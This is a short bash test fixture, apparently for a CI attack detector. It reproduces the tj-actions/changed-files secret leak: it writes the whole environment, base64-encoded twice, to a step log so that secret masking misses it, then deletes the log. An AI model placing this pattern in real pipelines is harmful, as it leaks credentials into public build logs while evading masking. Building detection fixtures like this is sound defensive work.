#!/bin/bash
# technique: T1552.001 Unsecured Credentials: Credentials In Files (CI secrets in the environment); T1027 Obfuscated Files or Information
# reproduces: tj-actions/changed-files (CVE-2025-30066): the compromised action printed the runner's secrets double-base64-encoded into the public build log, where GitHub's masking of secret values no longer recognised them
# expect: environment-encoded ^base64$
# exec-borne: no
#
# The step "prints diagnostics": its environment, encoded twice, into
# its own log (stdout). Nothing leaves the host: whoever reads the log
# decodes it.
set -u

diag() {
	printf '::group::diagnostics\n'
	env | base64 -w 0 | base64 -w 0
	printf '\n::endgroup::\n'
}
diag >"${BW_ATTACK_TMP:?}/step.log"
rm -f "${BW_ATTACK_TMP}/step.log"
